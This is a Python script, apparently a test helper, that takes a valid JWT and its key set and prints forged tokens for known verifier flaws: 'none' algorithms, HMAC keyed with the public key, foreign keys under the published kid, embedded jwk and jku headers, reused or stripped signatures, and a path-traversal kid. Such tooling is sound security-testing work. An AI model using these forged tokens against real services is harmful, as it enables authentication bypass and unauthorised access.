"""Forges access tokens that a careless verifier would take.

Reads one JSON object from standard input, `{"token": A GOOD TOKEN, "keys": JWKS}`, and prints an object of forged tokens by
what is wrong with them. Every one has the claims of the good token, or better ones.
"""

import base64
import hashlib
import hmac
import json
import sys

import jwt
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat


def encoded(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def part(value: dict) -> str:
    return encoded(json.dumps(value).encode())


def main() -> None:
    asked = json.load(sys.stdin)
    good, (key, *_) = asked["token"], asked["keys"]["keys"]
    header = jwt.get_unverified_header(good)
    claims = jwt.decode(good, options={"verify_signature": False})
    signature = good.split(".")[2]
    public = ed25519.Ed25519PublicKey.from_public_bytes(base64.urlsafe_b64decode(key["x"] + "=="))
    own, other = ed25519.Ed25519PrivateKey.generate(), ed25519.Ed25519PrivateKey.generate()

    def unsigned(**changes) -> str:
        return f"{part({**header, **changes})}.{part(claims)}"

    def keyed(secret: bytes, algorithm: str, digest) -> str:
        text = unsigned(alg=algorithm)
        return f"{text}.{encoded(hmac.new(secret, text.encode(), digest).digest())}"

    def signed(algorithm: str, private, **changes) -> str:
        named = {name: value for name, value in {**header, **changes}.items() if name != "alg" and value is not None}
        return jwt.encode(claims, private, algorithm=algorithm, headers=named)

    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    own_key = {"kty": "OKP", "crv": "Ed25519", "x": encoded(own.public_key().public_bytes_raw())}
    json.dump(
        {
            "none": unsigned(alg="none") + ".",
            "None in capitals": unsigned(alg="NONE") + ".",
            "none with the good signature": f"{unsigned(alg='none')}.{signature}",
            "HS256 with the public key's bytes": keyed(public.public_bytes_raw(), "HS256", hashlib.sha256),
            "HS256 with the public key's text": keyed(key["x"].encode(), "HS256", hashlib.sha256),
            "HS256 with the public key as PEM": keyed(pem, "HS256", hashlib.sha256),
            "HS512 with the public key as PEM": keyed(pem, "HS512", hashlib.sha512),
            "ES256 under the published kid": signed("ES256", ec.generate_private_key(ec.SECP256R1())),
            "RS256 under the published kid": signed("RS256", rsa.generate_private_key(65537, 2048)),
            "another key under the published kid": signed("EdDSA", own),
            "another key under its own kid": signed("EdDSA", own, kid="foreign"),
            "another key without a kid": signed("EdDSA", own, kid=None),
            "another key that it brings along": signed("EdDSA", own, jwk=own_key),
            "another key by reference": signed("EdDSA", own, kid="foreign", jku="http://127.0.0.1:9/jwks.json"),
            "a signature of another token": f"{part(header)}.{part({**claims, 'sub': '1'})}.{signature}",
            "no signature": unsigned() + ".",
            "an empty signature part left out": unsigned(),
            "a key of another kind": signed("EdDSA", other, kid="../../dev/null"),
        },
        sys.stdout,
    )


main()
